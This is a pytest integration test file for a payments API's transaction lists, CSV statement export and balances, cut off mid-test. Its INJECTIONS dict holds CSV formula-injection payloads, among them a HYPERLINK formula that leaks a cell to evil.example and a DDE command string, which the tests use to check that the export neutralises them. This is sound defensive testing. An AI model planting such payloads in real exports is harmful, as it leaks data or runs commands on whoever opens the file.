"""The record store's API against the session's real stack (gateway, worker, sandboxes,
PostgreSQL): the lists (``GET /v1/payouts``, ``/v1/payins``, ``/v1/refunds``), the CSV
statement (``GET /v1/transactions/export.csv``), the provider balances
(``GET /v1/balances``), their twins in ``momoflow.client``, and the balance line of the
daily reconciliation report.

Most records are written straight into the stack's record store (``RecordStore.write``,
what the workflows' ``record_transaction`` activity does), each test's in a period of its
own a year back, so that the payouts other tests start now never mix with them; a few real
payouts through ``POST /v1/payouts`` show that what the workflows record lists the same.
"""

from __future__ import annotations

import asyncio
import csv
import io
import itertools
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import httpx
import pytest
import pytest_asyncio
from sqlalchemy import func, select
from temporalio.client import Client
from temporalio.testing import ActivityEnvironment

from activities.reconcile import ReconcileActivities
from momoflow.client import (
    AccountBalance,
    MomoflowClient,
    SyncMomoflowClient,
    ValidationFailed,
)
from momoflow.gateway.app import create_app
from momoflow.gateway.listing import STATEMENT_COLUMNS
from momoflow.ids import payin_workflow_id, payout_workflow_id, refund_workflow_id
from momoflow.masking import mask_phone
from momoflow.models import (
    Failure,
    Operator,
    PayinMode,
    PayinState,
    PayoutState,
    ProviderName,
    RefundState,
    TimelineEntry,
    TransactionState,
    TransactionStatus,
)
from momoflow.money import Country, Currency
from momoflow.processes import free_port
from momoflow.providers.registry import open_providers
from momoflow.reconciliation.rules import (
    BALANCE_SOURCE,
    ReportMode,
    ReportSummary,
    WriteReportInput,
    report_markdown,
)
from momoflow.records.schema import journal_entries, journal_lines, reported_balances
from momoflow.records.store import RecordStore
from momoflow.records.writes import HistoryEntry, Kind, RecordWrite
from momoflow.settings import Settings
from tests.stack import ACME_KEY, GLOBEX_KEY, Stack

#: This run's references start with it, so that nothing of another run can match.
RUN = uuid.uuid4().hex[:8].upper()
#: A reference no test uses (a fixed value: xdist's workers must collect the same ids).
UNKNOWN = "NOPE-NEVER-A-REFERENCE"
#: Each seeded data set gets a day of its own, a year back: far from the payouts the other
#: tests start now, and from each other.
_PERIODS = itertools.count()
_YEAR_AGO = (datetime.now(UTC) - timedelta(days=365)).replace(
    hour=0, minute=0, second=0, microsecond=0
)
SETTLE_S = 60.0

_SUCCEEDED = TransactionStatus.SUCCEEDED


def _period() -> datetime:
    """The start of a day no other data set of this process uses."""
    return _YEAR_AGO + timedelta(days=next(_PERIODS))


def _iso(moment: datetime) -> str:
    return moment.isoformat()


# --------------------------------------------------------------------------- seeding


def _timeline(created: datetime, status: TransactionStatus) -> list[TimelineEntry]:
    entries = [TimelineEntry(at=created, status=TransactionStatus.CREATED, note="requested")]
    if status is not TransactionStatus.CREATED:
        entries.append(TimelineEntry(at=created + timedelta(seconds=3), status=status))
    return entries


def _common(
    *,
    workflow_id: str,
    merchant: str,
    reference: str,
    provider: ProviderName,
    country: Country,
    amount: int,
    status: TransactionStatus,
    created: datetime,
    fees: int | None,
    description: str,
    failure: Failure | None = None,
    provider_reference: str | None = None,
) -> dict[str, Any]:
    final = status.is_final
    return {
        "workflow_id": workflow_id,
        "merchant": merchant,
        "reference": reference,
        "provider": provider,
        "country": country,
        "amount": amount,
        "currency": Currency.XOF,
        "description": description,
        "status": status,
        "fees": fees,
        "provider_transaction_id": f"PTX-{reference}" if status is not _CREATED else None,
        "provider_reference": provider_reference,
        "failure": failure,
        "created_at": created,
        "submitted_at": created + timedelta(seconds=1),
        "completed_at": created + timedelta(seconds=3) if final else None,
        "updated_at": created + timedelta(seconds=3),
        "timeline": _timeline(created, status),
    }


_CREATED = TransactionStatus.CREATED


def payout_state(
    reference: str,
    *,
    created: datetime,
    status: TransactionStatus = _SUCCEEDED,
    provider: ProviderName = ProviderName.CAURISFLUX,
    country: Country = Country.SN,
    amount: int = 50_000,
    fees: int | None = 750,
    net_amount: int | None = None,
    phone: str = "+221771234101",
    description: str = "supplier payout",
    failure: Failure | None = None,
    provider_reference: str | None = None,
    merchant: str = "acme",
) -> PayoutState:
    return PayoutState(
        **_common(
            workflow_id=payout_workflow_id(merchant, reference),
            merchant=merchant,
            reference=reference,
            provider=provider,
            country=country,
            amount=amount,
            status=status,
            created=created,
            fees=fees,
            description=description,
            failure=failure,
            provider_reference=provider_reference,
        ),
        operator=Operator.WAVE,
        recipient_phone_masked=mask_phone(phone),
        net_amount=net_amount,
    )


def payin_state(
    reference: str,
    *,
    created: datetime,
    status: TransactionStatus = _SUCCEEDED,
    provider: ProviderName = ProviderName.NOVASEND,
    amount: int = 10_000,
    fees: int | None = 150,
    phone: str = "+2250701231001",
    description: str = "order",
) -> PayinState:
    return PayinState(
        **_common(
            workflow_id=payin_workflow_id("acme", reference),
            merchant="acme",
            reference=reference,
            provider=provider,
            country=Country.CI,
            amount=amount,
            status=status,
            created=created,
            fees=fees,
            description=description,
        ),
        mode=PayinMode.DIRECT,
        operator=Operator.ORANGE_MONEY,
        customer_phone_masked=mask_phone(phone),
    )


def refund_state(
    payin: PayinState, *, created: datetime, fees: int | None, description: str
) -> RefundState:
    return RefundState(
        **_common(
            workflow_id=refund_workflow_id(payin.workflow_id),
            merchant="acme",
            reference=payin.reference,
            provider=payin.provider,
            country=payin.country,
            amount=payin.amount,
            status=_SUCCEEDED,
            created=created,
            fees=fees,
            description=description,
        ),
        payin_workflow_id=payin.workflow_id,
        reason="order cancelled",
    )


_KINDS: dict[type[TransactionState], Kind] = {
    PayoutState: Kind.PAYOUT,
    PayinState: Kind.PAYIN,
    RefundState: Kind.REFUND,
}


async def record(store: RecordStore, state: TransactionState, campaign: str | None = None) -> None:
    """Write ``state`` the way a workflow's ``record_transaction`` activity does (its
    journal entries are posted with it)."""
    await store.write(
        RecordWrite(
            kind=_KINDS[type(state)],
            seq=1,
            fingerprint=f"test-{RUN}",
            campaign=campaign,
            state=state.model_dump(mode="json"),
            entries=[
                HistoryEntry(index=i, at=e.at, status=e.status, note=e.note)
                for i, e in enumerate(state.timeline)
            ],
        )
    )


#: The 250 payouts' providers and countries, statuses, in turn.
_ROUTES = [
    (ProviderName.CAURISFLUX, Country.SN),
    (ProviderName.NOVASEND, Country.CI),
    (ProviderName.MOBILEPAY, Country.CI),
    (ProviderName.CAURISFLUX, Country.CI),
    (ProviderName.MOBILEPAY, Country.SN),
]
#: Final statuses only: a record still moving whose workflow does not exist would be
#: reported by ``momoflow records verify`` (the session's store is shared).
_STATUSES = [
    _SUCCEEDED,
    TransactionStatus.FAILED,
    TransactionStatus.CANCELLED,
    _SUCCEEDED,
    TransactionStatus.EXPIRED,
    _SUCCEEDED,
    TransactionStatus.FAILED,
]


@dataclass(frozen=True)
class Ledger:
    """250 payouts of acme, one a minute (every tenth at the same minute as the one
    before: the order then follows the record's id), a quarter of them in a campaign."""

    references: list[str]
    created: list[datetime]
    statuses: list[TransactionStatus]
    routes: list[tuple[ProviderName, Country]]
    campaigns: list[str | None]
    campaign: str
    start: datetime
    end: datetime

    def newest_first(self, keep: Any = lambda i: True) -> list[str]:
        """References of the payouts ``keep(i)`` selects, in the order lists answer."""
        order = sorted(range(len(self.references)), key=lambda i: (self.created[i], i))
        return [self.references[i] for i in reversed(order) if keep(i)]


_LEDGERS: dict[str, Ledger] = {}


async def _seed_ledger(store: RecordStore) -> Ledger:
    start = _period()
    campaign = f"CMP-{RUN}-LEDGER"
    references, created, statuses, routes, campaigns = [], [], [], [], []
    for i in range(250):
        at = start + timedelta(minutes=i - 1 if i % 10 == 9 else i)
        provider, country = _ROUTES[i % len(_ROUTES)]
        status = _STATUSES[i % len(_STATUSES)]
        in_campaign = campaign if i % 4 == 0 else None
        reference = f"LS-{RUN}-{i:04d}"
        fees = 500 + i
        state = payout_state(
            reference,
            created=at,
            status=status,
            provider=provider,
            country=country,
            amount=20_000 + 100 * i,
            fees=fees,
            net_amount=20_000 + 100 * i - fees if provider is ProviderName.CAURISFLUX else None,
            phone=f"+22177123{i:04d}",
        )
        # One at a time: records of the same minute list by the order they were written.
        await record(store, state, in_campaign)
        references.append(reference)
        created.append(at)
        statuses.append(status)
        routes.append((provider, country))
        campaigns.append(in_campaign)
    return Ledger(references, created, statuses, routes, campaigns, campaign, start, created[-1])


@pytest_asyncio.fixture
async def store(stack: Stack) -> AsyncIterator[RecordStore]:
    records = RecordStore.connect(stack.database_url)
    try:
        yield records
    finally:
        await records.close()


@pytest_asyncio.fixture
async def ledger(stack: Stack, store: RecordStore) -> Ledger:
    """The 250 payouts, written once per stack (a function fixture, so that this file's
    tests stay units of their own; whichever runs first writes them)."""
    if stack.database_url not in _LEDGERS:
        _LEDGERS[stack.database_url] = await _seed_ledger(store)
    return _LEDGERS[stack.database_url]


@pytest_asyncio.fixture
async def gateway(stack: Stack) -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(
        base_url=stack.gateway_url, timeout=30, headers={"Authorization": f"Bearer {ACME_KEY}"}
    ) as http:
        yield http


async def walk(
    http: httpx.AsyncClient, path: str, params: dict[str, Any], limit: int
) -> list[dict[str, Any]]:
    """Every page of a list, following ``has_more`` and ``starting_after``."""
    pages: list[dict[str, Any]] = []
    after: str | None = None
    while True:
        query = {**params, "limit": limit}
        if after is not None:
            query["starting_after"] = after
        answer = await http.get(path, params=query)
        assert answer.status_code == 200, answer.text
        page = answer.json()
        assert set(page) == {"data", "has_more"}
        pages.append(page)
        if not page["has_more"]:
            return pages
        assert page["data"], "has_more with an empty page"
        after = page["data"][-1]["reference"]
        assert len(pages) <= 300, "the pages never end"


def references(pages: list[dict[str, Any]]) -> list[str]:
    return [item["reference"] for page in pages for item in page["data"]]


def _window(ledger: Ledger) -> dict[str, str]:
    return {"created_gte": _iso(ledger.start), "created_lte": _iso(ledger.end)}


# --------------------------------------------------------------------------- lists


async def test_pages_walk_250_payouts_newest_first_without_duplicates_or_gaps(
    ledger: Ledger, gateway: httpx.AsyncClient
) -> None:
    expected = ledger.newest_first()
    assert len(expected) == 250
    for limit in (37, 100, 1):
        pages = await walk(gateway, "/v1/payouts", _window(ledger), limit)
        listed = references(pages)
        assert listed == expected, f"limit {limit}"
        assert len(set(listed)) == len(listed)
        assert len(pages) == -(-250 // limit)
        assert all(len(p["data"]) == limit for p in pages[:-1])
        assert 1 <= len(pages[-1]["data"]) <= limit
        assert [p["has_more"] for p in pages] == [True] * (len(pages) - 1) + [False]
        for page in pages:
            created = [item["created_at"] for item in page["data"]]
            assert created == sorted(created, reverse=True)

    # Each item is the body GET /v1/payouts/{reference} answers (a final one, from the
    # store), phone masked.
    first = (await gateway.get("/v1/payouts", params={**_window(ledger), "limit": 1})).json()
    item = first["data"][0]
    single = await gateway.get(f"/v1/payouts/{item['reference']}")
    assert single.json() == item
    assert PayoutState.model_validate(item).recipient_phone_masked.count("*") >= 4

    # The default page is 20 items.
    default = (await gateway.get("/v1/payouts", params=_window(ledger))).json()
    assert references([default]) == expected[:20] and default["has_more"] is True


async def test_filters_narrow_the_list(ledger: Ledger, gateway: httpx.AsyncClient) -> None:
    window = _window(ledger)
    cases: list[tuple[dict[str, str], Any]] = [
        ({"status": "succeeded"}, lambda i: ledger.statuses[i] is _SUCCEEDED),
        ({"status": "cancelled"}, lambda i: ledger.statuses[i] is TransactionStatus.CANCELLED),
        ({"provider": "novasend"}, lambda i: ledger.routes[i][0] is ProviderName.NOVASEND),
        ({"country": "CI"}, lambda i: ledger.routes[i][1] is Country.CI),
        ({"campaign": ledger.campaign}, lambda i: ledger.campaigns[i] == ledger.campaign),
        (
            {"provider": "caurisflux", "country": "SN", "status": "succeeded"},
            lambda i: (
                ledger.routes[i] == (ProviderName.CAURISFLUX, Country.SN)
                and ledger.statuses[i] is _SUCCEEDED
            ),
        ),
        ({"status": "declined"}, lambda i: False),
    ]
    for filters, keep in cases:
        pages = await walk(gateway, "/v1/payouts", {**window, **filters}, 30)
        expected = ledger.newest_first(keep)
        assert references(pages) == expected, filters
        if expected:
            assert 0 < len(expected) < 250, filters
        for item in (item for page in pages for item in page["data"]):
            for name in ("status", "provider", "country"):
                if name in filters:
                    assert item[name] == filters[name]

    # The creation period, both bounds inclusive, in any timezone.
    low, high = ledger.created[40], ledger.created[120]
    paris = timezone(timedelta(hours=1))
    for gte, lte in ((low, high), (low.astimezone(paris), high.astimezone(paris))):
        pages = await walk(
            gateway, "/v1/payouts", {"created_gte": _iso(gte), "created_lte": _iso(lte)}, 50
        )
        assert references(pages) == ledger.newest_first(lambda i: low <= ledger.created[i] <= high)
    # `Z` works too, and a period with nothing in it is an empty last page.
    zulu = low.strftime("%Y-%m-%dT%H:%M:%SZ")
    answer = await gateway.get(
        "/v1/payouts", params={"created_gte": zulu, "created_lte": zulu, "limit": 100}
    )
    assert references([answer.json()]) == ledger.newest_first(lambda i: ledger.created[i] == low)
    empty = await gateway.get(
        "/v1/payouts", params={"created_lte": _iso(ledger.start - timedelta(days=400))}
    )
    assert empty.json() == {"data": [], "has_more": False}

    # A filter and a cursor together: the page goes on after the cursor, filtered.
    succeeded = ledger.newest_first(lambda i: ledger.statuses[i] is _SUCCEEDED)
    answer = await gateway.get(
        "/v1/payouts",
        params={**window, "status": "succeeded", "starting_after": succeeded[9], "limit": 5},
    )
    assert references([answer.json()]) == succeeded[10:15]

    # Another merchant sees none of them, and cannot page from acme's references.
    async with httpx.AsyncClient(
        base_url=str(gateway.base_url), headers={"Authorization": f"Bearer {GLOBEX_KEY}"}
    ) as globex:
        assert (await globex.get("/v1/payouts", params=window)).json()["data"] == []
        refused = await globex.get("/v1/payouts", params={"starting_after": ledger.references[0]})
        assert refused.status_code == 422
        assert refused.json()["problems"][0]["field"] == "starting_after"


BAD_PARAMETERS: list[tuple[str, dict[str, str], str, str | None]] = [
    ("/v1/payouts", {"limit": "0"}, "limit", "greater_than_equal"),
    ("/v1/payouts", {"limit": "101"}, "limit", "less_than_equal"),
    ("/v1/payins", {"limit": "lots"}, "limit", "int_parsing"),
    ("/v1/refunds", {"limit": "-1"}, "limit", "greater_than_equal"),
    ("/v1/payouts", {"status": "paid"}, "status", "enum"),
    ("/v1/payins", {"provider": "acmepay"}, "provider", "enum"),
    ("/v1/refunds", {"country": "FR"}, "country", "enum"),
    ("/v1/payouts", {"campaign": "not a reference!"}, "campaign", "string_pattern_mismatch"),
    ("/v1/payouts", {"created_gte": "2026-03-01T00:00:00"}, "created_gte", "timezone_aware"),
    ("/v1/payins", {"created_lte": "2026-03-01 10:00"}, "created_lte", "timezone_aware"),
    ("/v1/payouts", {"created_gte": "yesterday"}, "created_gte", None),
    (
        "/v1/payouts",
        {"created_gte": "2026-03-02T00:00:00Z", "created_lte": "2026-03-01T00:00:00Z"},
        "created_lte",
        "not_before_created_gte",
    ),
    ("/v1/payouts", {"campaign": "CMP\x00"}, "campaign", "string_pattern_mismatch"),
    ("/v1/payouts", {"created_gte": "0001-01-01T00:00:00+14:00"}, "created_gte", "out_of_range"),
    ("/v1/payins", {"created_lte": "9999-12-31T23:59:59-14:00"}, "created_lte", "out_of_range"),
    (
        "/v1/payouts",
        {"starting_after": "NOPE-NEVER-A-REFERENCE"},
        "starting_after",
        "unknown_reference",
    ),
    (
        "/v1/refunds",
        {"starting_after": "NOPE-NEVER-A-REFERENCE"},
        "starting_after",
        "unknown_reference",
    ),
    ("/v1/payouts", {"starting_after": "bad ref"}, "starting_after", "string_pattern_mismatch"),
    (
        "/v1/transactions/export.csv",
        {"created_gte": "2026-03-01T00:00:00"},
        "created_gte",
        "timezone_aware",
    ),
    (
        "/v1/transactions/export.csv",
        {"created_gte": "2026-03-02T00:00:00Z", "created_lte": "2026-03-01T00:00:00Z"},
        "created_lte",
        "not_before_created_gte",
    ),
]


@pytest.mark.parametrize(
    ("path", "params", "field", "rule"),
    BAD_PARAMETERS,
    ids=[f"{p}-{next(iter(q))}={next(iter(q.values()))}" for p, q, _, _ in BAD_PARAMETERS],
)
async def test_a_bad_parameter_is_a_422_naming_the_field_and_the_rule(
    gateway: httpx.AsyncClient, path: str, params: dict[str, str], field: str, rule: str | None
) -> None:
    answer = await gateway.get(path, params=params)
    assert answer.status_code == 422, answer.text
    body = answer.json()
    assert body["error"] == "validation_failed" and body["message"]
    [problem] = body["problems"]
    assert problem["field"] == field
    assert problem["rule"] == (rule or problem["rule"]) and problem["rule"]
    assert problem["message"]


async def test_the_openapi_schema_types_the_lists_and_balances(
    gateway: httpx.AsyncClient,
) -> None:
    spec = (await gateway.get("/openapi.json")).json()
    schemas = spec["components"]["schemas"]
    for path, model in (
        ("/v1/payouts", "PayoutState"),
        ("/v1/payins", "PayinState"),
        ("/v1/refunds", "RefundState"),
    ):
        answer = spec["paths"][path]["get"]["responses"]["200"]["content"]["application/json"]
        page = schemas[answer["schema"]["$ref"].rsplit("/", 1)[1]]
        assert page["properties"]["data"]["items"] == {"$ref": f"#/components/schemas/{model}"}
        assert page["required"] == ["data", "has_more"]
        names = {p["name"] for p in spec["paths"][path]["get"]["parameters"]}
        assert {"status", "provider", "country", "created_gte", "created_lte"} <= names
        assert {"limit", "starting_after"} <= names
    balances = spec["paths"]["/v1/balances"]["get"]
    assert "shared by every merchant" in balances["description"]
    assert set(schemas["AccountBalance"]["properties"]) == set(AccountBalance.model_fields)
    export = spec["paths"]["/v1/transactions/export.csv"]["get"]["responses"]["200"]
    assert "text/csv" in export["content"]


async def test_an_unreachable_record_store_is_a_503(
    stack: Stack, client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in stack.env.items():
        if name.startswith("MOMOFLOW_"):
            monkeypatch.setenv(name, value)
    # Nothing listens there: every connection is refused.
    dead = RecordStore.connect(f"postgresql://momoflow:x@127.0.0.1:{free_port()}/momoflow")
    app = create_app(Settings(_env_file=None), client=client, store=dead)
    try:
        async with httpx.AsyncClient(
            transport=httpx.ASGITransport(app=app),
            base_url="http://gateway",
            headers={"Authorization": f"Bearer {ACME_KEY}"},
        ) as http:
            for path in ("/v1/payouts", "/v1/payins", "/v1/refunds", "/v1/balances"):
                answer = await http.get(path)
                assert answer.status_code == 503, (path, answer.text)
                assert answer.json()["error"] == "records_unavailable"
                assert answer.headers["Retry-After"]
            export = await http.get("/v1/transactions/export.csv")
            assert export.status_code == 503
            assert export.json()["error"] == "records_unavailable"
    finally:
        await dead.close()


# --------------------------------------------------------------------------- real payouts


def real_payout_body(reference: str, phone: str, description: str) -> dict[str, Any]:
    return {
        "reference": reference,
        "provider": "caurisflux",
        "country": "SN",
        "operator": "wave",
        "recipient": {"phone": phone, "name": "Awa Diallo"},
        "amount": 12_500,
        "currency": "XOF",
        "description": description,
    }


#: Recipients' numbers end with 4xxx to 6xxx: no scripted outcome of the sandbox (00xx).
_NUMBERS = itertools.count(int(RUN, 16) % 1000)


def _recipient(n: int) -> str:
    return f"+22177{next(_NUMBERS) % 10:01d}12{4 + n % 3}{next(_NUMBERS) % 1000:03d}"


async def pay(
    stack: Stack, gateway: httpx.AsyncClient, tag: str, count: int, description: str
) -> list[dict[str, Any]]:
    """``count`` real payouts through the gateway, once the record store holds each one
    succeeded (lists and exports read the store): their recorded states, oldest first,
    each with the number it paid under ``"phone"``."""
    bodies = [
        real_payout_body(f"LS-{RUN}-{tag}-{n}", _recipient(n), description) for n in range(count)
    ]
    for body in bodies:
        answer = await gateway.post("/v1/payouts", json=body)
        assert answer.status_code == 201, answer.text
    wanted = {body["reference"] for body in bodies}
    store = RecordStore.connect(stack.database_url)

    async def recorded() -> list[dict[str, Any]]:
        found = [await store.get(Kind.PAYOUT, "acme", ref) for ref in sorted(wanted)]
        return [r.state for r in found if r is not None and r.status is _SUCCEEDED]

    try:
        loop = asyncio.get_running_loop()
        deadline = loop.time() + SETTLE_S
        states = await recorded()
        while len(states) < count:
            assert loop.time() < deadline, f"payouts {sorted(wanted)} not recorded succeeded"
            await asyncio.sleep(0.25)
            states = await recorded()
    finally:
        await store.close()
    phones = {body["reference"]: body["recipient"]["phone"] for body in bodies}
    return [
        {**state, "phone": phones[state["reference"]]}
        for state in sorted(states, key=lambda s: s["created_at"])
    ]


async def test_real_payouts_are_listed_like_their_reads(
    stack: Stack, gateway: httpx.AsyncClient
) -> None:
    since = datetime.now(UTC) - timedelta(seconds=1)
    states = await pay(stack, gateway, "LIST", 3, "listed payout")
    mine = {s["reference"] for s in states}
    states_by_ref = {s["reference"]: s for s in states}
    pages = await walk(
        gateway, "/v1/payouts", {"created_gte": _iso(since), "status": "succeeded"}, 2
    )
    listed = [item for page in pages for item in page["data"] if item["reference"] in mine]
    # Newest first (other tests' payouts may sit between them).
    assert [item["reference"] for item in listed] == [s["reference"] for s in reversed(states)]
    for item in listed:
        read = (await gateway.get(f"/v1/payouts/{item['reference']}")).json()
        assert read == item
        assert item == {k: v for k, v in states_by_ref[item["reference"]].items() if k != "phone"}
        assert item["fees"] and item["provider_transaction_id"]
        assert "*" in item["recipient_phone_masked"]
    by_provider = await walk(
        gateway, "/v1/payouts", {"created_gte": _iso(since), "provider": "mobilepay"}, 100
    )
    assert not mine & set(references(by_provider))


# --------------------------------------------------------------------------- the statement

INJECTIONS = {
    "description": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "provider_reference": "=cmd|' /C calc'!A0",
    "failure_message": "@SUM(1+1) refused by the operator",
    "payin_description": "+33 6 00 00 00 00",
    "refund_description": "-2+3 cancelled",
}


@dataclass(frozen=True)
class Statement:
    start: datetime
    end: datetime
    payout: PayoutState
    failed: PayoutState
    payin: PayinState
    refund: RefundState
    expired: PayinState
    claimed: PayoutState
    campaign: str


_STATEMENTS = itertools.count(1)


async def _seed_statement(store: RecordStore) -> Statement:
    start = _period()
    tag = f"ST{next(_STATEMENTS)}-{RUN}"
    at = [start + timedelta(minutes=m) for m in range(10)]
    campaign = f"CMP-{tag}"
    payout = payout_state(
        f"{tag}-P1",
        created=at[1],
        net_amount=49_250,
        description=INJECTIONS["description"],
        provider_reference=INJECTIONS["provider_reference"],
        phone="+221771234101",
    )
    failed = payout_state(
        f"{tag}-P2",
        created=at[2],
        status=TransactionStatus.FAILED,
        provider=ProviderName.MOBILEPAY,
        country=Country.CI,
        amount=20_000,
        fees=300,  # quoted, never charged
        phone="+2250701234102",
        failure=Failure(code="invalid_recipient", message=INJECTIONS["failure_message"]),
    )
    payin = payin_state(f"{tag}-I1", created=at[3], description=INJECTIONS["payin_description"])
    refund = refund_state(
        payin, created=at[4], fees=100, description=INJECTIONS["refund_description"]
    )
    expired = payin_state(
        f"{tag}-I2",
        created=at[5],
        status=TransactionStatus.EXPIRED,
        provider=ProviderName.CAURISFLUX,
        fees=None,
    )
    claimed = payout_state(f"{tag}-P3", created=at[6], status=_CREATED, fees=None)
    other = payout_state(f"{tag}-G1", created=at[7], merchant="globex")
    await record(store, payout, campaign)
    for state in (failed, payin, refund, expired, other):
        await record(store, state)
    # A start still being claimed: never listed nor exported until its workflow exists.
    claim = await store.claim(Kind.PAYOUT, claimed, fingerprint=f"test-{RUN}", actor="test")
    assert claim.inserted and not claim.record.started
    return Statement(start, at[9], payout, failed, payin, refund, expired, claimed, campaign)


def parse_csv(text: str) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(text)))
    assert rows and tuple(rows[0]) == STATEMENT_COLUMNS, rows[:1]
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def assert_formula_safe(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)


async def test_the_statement_lists_every_kind_oldest_first_formula_safe_and_masked(
    stack: Stack, store: RecordStore, gateway: httpx.AsyncClient
) -> None:
    seeded = await _seed_statement(store)
    period = {"created_gte": _iso(seeded.start), "created_lte": _iso(seeded.end)}
    answer = await gateway.get("/v1/transactions/export.csv", params=period)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    day = seeded.start.date().isoformat()
    assert answer.headers["content-disposition"] == (
        f'attachment; filename="momoflow-transactions-{day}_{day}.csv"'
    )
    rows = parse_csv(answer.text)
    assert [(r["kind"], r["reference"]) for r in rows] == [
        ("payout", seeded.payout.reference),
        ("payout", seeded.failed.reference),
        ("payin", seeded.payin.reference),
        ("refund", seeded.payin.reference),
        ("payin", seeded.expired.reference),
    ]
    assert_formula_safe(rows)
    payout, failed, payin, refund, expired = rows

    assert payout["description"] == "'" + INJECTIONS["description"]
    assert payout["provider_reference"] == "'" + INJECTIONS["provider_reference"]
    assert failed["failure_message"] == "'" + INJECTIONS["failure_message"]
    assert payin["description"] == "'" + INJECTIONS["payin_description"]
    assert refund["description"] == "'" + INJECTIONS["refund_description"]

    assert payout["amount"] == "50000" and payout["fees"] == "750" and payout["net"] == "49250"
    assert payout["status"] == "succeeded" and payout["provider"] == "caurisflux"
    assert payout["country"] == "SN" and payout["currency"] == "XOF"
    assert payout["operator"] == "wave" and payout["campaign"] == seeded.campaign
    assert payout["created_at"] == seeded.payout.created_at.isoformat()
    assert payout["completed_at"] == (seeded.payout.completed_at or seeded.start).isoformat()
    assert payout["provider_transaction_id"] == f"PTX-{seeded.payout.reference}"
    assert payout["workflow_id"] == seeded.payout.workflow_id
    # A quoted fee on a payout that did not pay was never charged.
    assert failed["fees"] == "" and failed["net"] == ""
    assert failed["failure_code"] == "invalid_recipient" and failed["status"] == "failed"
    # A payin's fee comes out of what it brings in; a refund's is charged on top.
    assert payin["fees"] == "150" and payin["net"] == "9850"
    assert refund["amount"] == "10000" and refund["fees"] == "100" and refund["net"] == ""
    assert expired["fees"] == expired["net"] == "" and expired["status"] == "expired"

    # Phone numbers are masked (a leading + is quoted like any formula character).
    assert payout["phone_masked"] == "'" + mask_phone("+221771234101")
    assert failed["phone_masked"] == "'" + mask_phone("+2250701234102")
    assert payin["phone_masked"] == "'" + mask_phone("+2250701231001")
    assert refund["phone_masked"] == ""
    for number in ("771234101", "701234102", "701231001"):
        assert number not in answer.text

    # The claim and the other merchant's payout are in no list of acme either.
    payouts = await walk(gateway, "/v1/payouts", period, 10)
    assert references(payouts) == [seeded.failed.reference, seeded.payout.reference]
    payins = await walk(gateway, "/v1/payins", period, 10)
    assert references(payins) == [seeded.expired.reference, seeded.payin.reference]
    refunds = await walk(gateway, "/v1/refunds", period, 10)
    assert references(refunds) == [seeded.payin.reference]
    assert refunds[0]["data"][0]["payin_workflow_id"] == seeded.payin.workflow_id
    assert RefundState.model_validate(refunds[0]["data"][0]).reason == "order cancelled"

    # Once the claimed start's workflow has written its record, it lists and exports like
    # the others.
    await record(
        store,
        payout_state(seeded.claimed.reference, created=seeded.claimed.created_at, fees=300),
    )
    payouts = await walk(gateway, "/v1/payouts", period, 10)
    assert references(payouts)[0] == seeded.claimed.reference
    again = parse_csv((await gateway.get("/v1/transactions/export.csv", params=period)).text)
    assert [r["reference"] for r in again][-1] == seeded.claimed.reference

    # One bound only, or none, names the file accordingly.
    only_from = await gateway.get(
        "/v1/transactions/export.csv", params={"created_gte": _iso(datetime.now(UTC))}
    )
    assert only_from.status_code == 200
    assert "momoflow-transactions-from-" in only_from.headers["content-disposition"]
    only_until = await gateway.get(
        "/v1/transactions/export.csv",
        params={"created_lte": _iso(seeded.start - timedelta(days=1000))},
    )
    assert parse_csv(only_until.text) == []
    assert "momoflow-transactions-until-" in only_until.headers["content-disposition"]


async def test_the_statement_holds_real_payouts_with_their_fees(
    stack: Stack, gateway: httpx.AsyncClient
) -> None:
    since = datetime.now(UTC) - timedelta(seconds=1)
    states = await pay(stack, gateway, "EXP", 2, INJECTIONS["description"])
    async with gateway.stream(
        "GET", "/v1/transactions/export.csv", params={"created_gte": _iso(since)}
    ) as answer:
        assert answer.status_code == 200
        text = (await answer.aread()).decode()
    rows = {r["reference"]: r for r in parse_csv(text) if r["kind"] == "payout"}
    assert_formula_safe(list(rows.values()))
    for state in states:
        row = rows[state["reference"]]
        assert row["status"] == "succeeded" and row["amount"] == "12500"
        assert row["fees"] == str(state["fees"]) and int(row["fees"]) > 0
        if state["net_amount"] is not None:
            assert row["net"] == str(state["net_amount"])
        assert row["provider_transaction_id"] == state["provider_transaction_id"]
        assert row["description"] == "'" + INJECTIONS["description"]
        assert row["phone_masked"] == "'" + state["recipient_phone_masked"]
        assert "*" in row["phone_masked"]
    for state in states:
        assert state["phone"].removeprefix("+221") not in text


# --------------------------------------------------------------------------- balances


async def _entry_ids(store: RecordStore) -> set[int]:
    async with store.engine.connect() as conn:
        return set((await conn.execute(select(journal_entries.c.id))).scalars())


async def _float(store: RecordStore, entry_ids: set[int], provider: str, currency: str) -> int:
    if not entry_ids:
        return 0
    async with store.engine.connect() as conn:
        total = (
            await conn.execute(
                select(func.coalesce(func.sum(journal_lines.c.amount), 0)).where(
                    journal_lines.c.entry_id.in_(entry_ids),
                    journal_lines.c.account == f"provider:{provider}:float",
                    journal_lines.c.currency == currency,
                )
            )
        ).scalar_one()
    return int(total)


async def balances_snapshot(
    gateway: httpx.AsyncClient, store: RecordStore
) -> tuple[dict[tuple[str, str], dict[str, Any]], set[int]]:
    """``GET /v1/balances`` and the journal entries it was computed from: read between two
    listings of the entries that agree (entries are only ever added, so nothing was
    committed meanwhile)."""
    for _ in range(100):
        before = await _entry_ids(store)
        answer = await gateway.get("/v1/balances")
        after = await _entry_ids(store)
        assert answer.status_code == 200, answer.text
        if before == after:
            body = answer.json()
            assert set(body) == {"data"}
            return {(b["provider"], b["currency"]): b for b in body["data"]}, before
    raise AssertionError("the journal never stood still for a balance read")


async def test_balances_follow_the_journal_as_real_payouts_succeed(
    stack: Stack, store: RecordStore, gateway: httpx.AsyncClient
) -> None:
    key = ("caurisflux", "XOF")
    before, entries_before = await balances_snapshot(gateway, store)
    for (provider, currency), row in before.items():
        assert row["expected"] == await _float(store, entries_before, provider, currency)
        assert set(row) == {
